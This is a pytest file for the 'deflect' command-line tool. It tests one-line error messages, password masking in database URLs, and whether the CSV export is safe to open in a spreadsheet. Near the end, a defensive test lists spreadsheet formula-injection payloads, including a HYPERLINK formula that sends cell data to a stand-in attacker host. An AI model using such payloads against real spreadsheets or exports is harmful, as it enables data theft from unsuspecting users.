"""`deflect` command errors: configuration errors, and failures an operator can fix, are one line
`Error: ...` (exit 2 and 1), never a traceback; log lines carry a timestamp; the CSV export is
safe to open in a spreadsheet. The traceback cases run the real console script."""

from __future__ import annotations

import csv
import json
import os
import re
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import TINY_KB, write_kb

from deflect.cli import main

REPO = Path(__file__).resolve().parent.parent
DEFLECT = Path(sys.executable).parent / "deflect"
PASSWORD = "s3cret-pw"


@pytest.fixture
def runner(clean_env) -> CliRunner:
    return CliRunner()


def free_port() -> int:
    """A port with nothing listening on it (bound, then closed at once)."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def run_deflect(tmp_path: Path, *args: str, **env: str | None) -> subprocess.CompletedProcess:
    """The real `deflect` console script, importing this checkout, with no config file (env None: unset)."""
    base = {k: v for k, v in os.environ.items() if not k.startswith("DEFLECT_")}
    base |= {"HF_HUB_OFFLINE": "1", "DEFLECT_CONFIG": "none", "PYTHONPATH": str(REPO)} | env
    return subprocess.run(
        [str(DEFLECT), *args], env={k: v for k, v in base.items() if v is not None}, cwd=tmp_path,
        capture_output=True, text=True, timeout=300,
    )


def assert_one_line_error(proc: subprocess.CompletedProcess, *expected: str, code: int = 1) -> str:
    assert proc.returncode == code, proc.stderr
    assert "Traceback" not in proc.stderr and "Try 'deflect" not in proc.stderr, proc.stderr
    errors = [line for line in proc.stderr.splitlines() if line.startswith("Error: ")]
    assert len(errors) == 1, proc.stderr
    assert proc.stderr.rstrip().endswith(errors[0]), proc.stderr  # the last thing printed
    for text in expected:
        assert text in errors[0], errors[0]
    assert PASSWORD not in proc.stderr + proc.stdout
    return errors[0]


# --- configuration errors: exit 2, one line, no usage lines ------------------------------------


def test_a_missing_config_file_named_by_deflect_config_is_an_error(runner, tmp_path, clean_env):
    typo = tmp_path / "deflct.toml"
    clean_env.setenv("DEFLECT_CONFIG", str(typo))
    result = runner.invoke(main, ["db", "upgrade", "--database-url", f"sqlite:///{tmp_path / 'd.db'}"])
    assert result.exit_code == 2
    assert result.output == f"Error: config file {typo} (named by DEFLECT_CONFIG) does not exist; DEFLECT_CONFIG=none reads no config file\n"
    assert not (tmp_path / "d.db").exists(), "nothing may run on the defaults"


def test_a_toml_syntax_error_names_the_file_without_usage_lines(runner, tmp_path, clean_env):
    config = tmp_path / "deflect.toml"
    config.write_text("port = = 1\n")
    clean_env.setenv("DEFLECT_CONFIG", str(config))
    result = runner.invoke(main, ["suggest", "hello"])
    assert result.exit_code == 2
    assert result.output == f"Error: config file {config} is not valid TOML: Invalid value (at line 1, column 8)\n"


@pytest.mark.parametrize(
    "variable, value, expected",
    [
        ("DEFLECT_PORT", "8601.9", "setting port: '8601.9' is not a whole number (from DEFLECT_PORT)"),
        ("DEFLECT_ANSWER_THRESHOLD", "7", "setting answer_threshold: '7' is not allowed: it must be from 0 to 1"),
        ("DEFLECT_EMBED_BACKEND", "onnx-int4", "it must be one of onnx-int8, onnx, torch (from DEFLECT_EMBED_BACKEND)"),
    ],
)
def test_a_value_out_of_range_stops_the_command(runner, tmp_path, clean_env, variable, value, expected):
    clean_env.setenv(variable, value)
    result = runner.invoke(main, ["suggest", "hello", "--kb", str(tmp_path)])
    assert result.exit_code == 2
    assert result.output.startswith("Error: ") and expected in result.output and len(result.output.splitlines()) == 1


def test_an_unknown_deflect_variable_is_warned_about_with_a_timestamp(tmp_path):
    proc = run_deflect(tmp_path, "db", "upgrade", "--database-url", f"sqlite:///{tmp_path / 'd.db'}", DEFLECT_PORTT="9000",
                       DEFLECT_SKIP_BROWSER="1", DEFLECT_TEST_POSTGRES_URL="postgresql+psycopg://x@127.0.0.1:1")
    assert proc.returncode == 0, proc.stderr
    assert re.fullmatch(
        r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d WARNING deflect\.settings: unknown environment variable DEFLECT_PORTT "
        r"ignored \(did you mean DEFLECT_PORT\?\)\n",
        proc.stderr,
    ), proc.stderr  # one line: the suite's own variables are not warned about


# --- failures an operator can fix: exit 1, one line, the password masked -----------------------


def test_an_unreachable_postgresql_is_one_line_with_the_password_masked(tmp_path):
    url = f"postgresql+psycopg://deflect:{PASSWORD}@127.0.0.1:{free_port()}/x"
    masked = url.replace(PASSWORD, "***")
    assert_one_line_error(run_deflect(tmp_path, "metrics", "--database-url", url), f"cannot connect to the database {masked}")
    kb = write_kb(tmp_path / "kb", TINY_KB)
    serve = run_deflect(tmp_path, "serve", "--kb", str(kb), "--index-dir", str(tmp_path / "i"), "--database-url", url,
                        "--port", str(free_port()))
    assert_one_line_error(serve, f"cannot connect to the database {masked}", "Connection refused")


def test_a_postgres_url_without_driver_says_which_to_use(tmp_path):
    url = f"postgres://deflect:{PASSWORD}@127.0.0.1:5432/x"
    proc = run_deflect(tmp_path, "aliases", "list", "--database-url", url)
    assert_one_line_error(proc, "postgres://deflect:***@127.0.0.1:5432/x", "use postgresql+psycopg://", code=2)


def test_a_database_written_by_a_newer_deflect_is_named_as_such(tmp_path):
    import sqlalchemy as sa

    from deflect.db import make_engine, upgrade

    url = f"sqlite:///{tmp_path / 'newer.db'}"
    engine = make_engine(url)
    upgrade(engine)
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE alembic_version SET version_num = '9999'"))
    engine.dispose()
    proc = run_deflect(tmp_path, "metrics", "--database-url", url)
    assert_one_line_error(proc, "schema revision '9999'", "written by a newer deflect")


@pytest.mark.parametrize(
    "model, expected",
    [
        ("no-such/model-xyz", "model 'no-such/model-xyz' is neither a local folder nor in the Hugging Face cache"),
        ("/no/such/model-folder", "model folder /no/such/model-folder does not exist"),
    ],
)
def test_a_model_that_is_not_there_is_one_line_and_nothing_is_downloaded(tmp_path, model, expected):
    kb = write_kb(tmp_path / "kb", TINY_KB)
    proc = run_deflect(tmp_path, "suggest", "reset my password", "--kb", str(kb), "--index-dir", str(tmp_path / "i"),
                       "--database-url", f"sqlite:///{tmp_path / 'd.db'}", "--model", model, HF_HUB_OFFLINE=None)
    assert_one_line_error(proc, expected)
    assert "huggingface.co" not in proc.stderr  # deflect sets HF_HUB_OFFLINE=1 itself: no download is tried


def test_an_export_to_a_missing_folder_is_one_line(tmp_path):
    from deflect.db import make_engine, upgrade

    url = f"sqlite:///{tmp_path / 'd.db'}"
    upgrade(make_engine(url))
    proc = run_deflect(tmp_path, "events", "export", "--format", "csv", "--database-url", url, "-o", "/nonexistent/dir/x.csv")
    assert_one_line_error(proc, "/nonexistent/dir/x.csv: No such file or directory")


READING_COMMANDS = [["metrics"], ["events", "export"], ["searches", "export"], ["aliases", "list"],
                    ["aliases", "delete", "3"], ["ideas", "requesters", "dark-mode"], ["ideas", "requesters"],
                    ["ideas", "export"], ["outbox", "list"], ["clusters", "list"], ["clusters", "show", "c1"]]


@pytest.mark.parametrize("command", READING_COMMANDS)
def test_a_reading_command_on_a_database_that_is_not_there_says_so(tmp_path, command):
    """A wrong working folder or a typo in database_url: an error, not zeros from a new empty database."""
    missing = tmp_path / "typo.db"
    proc = run_deflect(tmp_path, *command, "--database-url", f"sqlite:///{missing}")
    assert_one_line_error(proc, f"no database at {missing}", "`deflect serve` creates it")
    assert not missing.exists()


@pytest.mark.parametrize("command", [["metrics"], ["outbox", "list"], ["clusters", "list"]])
def test_a_reading_command_on_a_database_deflect_never_set_up_says_so(tmp_path, command):
    """PostgreSQL's own `postgres` database, or any other one: no deflect tables are created there."""
    import sqlite3

    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE customers (id INTEGER)").connection.commit()
    proc = run_deflect(tmp_path, *command, "--database-url", f"sqlite:///{other}")
    assert_one_line_error(proc, "is no deflect database (it has no deflect tables)", "deflect db upgrade")
    tables = sqlite3.connect(other).execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall()
    assert tables == [("customers",)]


def test_an_unexpected_error_is_one_line_and_verbose_shows_its_traceback(runner, tmp_path, monkeypatch):
    import deflect.db

    url = f"postgresql+psycopg://deflect:{PASSWORD}@127.0.0.1:1/x"

    def broken(database_url):
        raise RuntimeError(f"something broke while opening {database_url}\nsecond line")

    monkeypatch.setattr(deflect.db, "make_engine", broken)
    result = runner.invoke(main, ["db", "upgrade", "--database-url", url])
    assert result.exit_code == 1
    assert result.output == (
        "Error: unexpected RuntimeError: something broke while opening postgresql+psycopg://deflect:***@127.0.0.1:1/x "
        "(`deflect -v ...` shows the traceback)\n"
    )
    verbose = runner.invoke(main, ["-v", "db", "upgrade", "--database-url", url])
    assert isinstance(verbose.exception, RuntimeError)  # raised as is: click prints its traceback


# --- the CSV export is safe to open in a spreadsheet -------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"help")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


def test_csv_export_neutralises_formulas_and_jsonl_stays_exact(runner, tmp_path):
    from deflect.runtime import Runtime
    from deflect.settings import load_settings

    url = f"sqlite:///{tmp_path / 'events.db'}"
    settings = load_settings(config_file="none", env={}, kb_dir=str(write_kb(tmp_path / "kb", TINY_KB)),
                             index_dir=str(tmp_path / "index"), database_url=url)
    runtime = Runtime(settings, sync=False)
    for n, query in enumerate([*FORMULAS, "reset my password"]):
        answer = runtime.suggest(query, session=f"s{n}")
        runtime.record_event(answer["search_id"], "ticket_created")
    runtime.close()
    runtime.db.dispose()

    out = tmp_path / "events.csv"
    assert runner.invoke(main, ["events", "export", "--database-url", url, "--format", "csv", "-o", str(out)]).exit_code == 0
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    stored = {r["session"]: r["query"] for r in rows}
    jsonl = runner.invoke(main, ["events", "export", "--database-url", url]).stdout
    exact = {r["session"]: r["query"] for r in map(json.loads, jsonl.splitlines())}
    assert exact["s0"] == FORMULAS[0] and exact["s6"] == "reset my password"  # JSONL: exact
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert sum(q.startswith(starts) for q in exact.values()) >= 4
    for session, query in exact.items():
        assert stored[session] == ("'" + query if query.startswith(starts) else query), session
    assert {r["answered"] for r in rows} <= {"true", "false"}  # booleans stay true/false
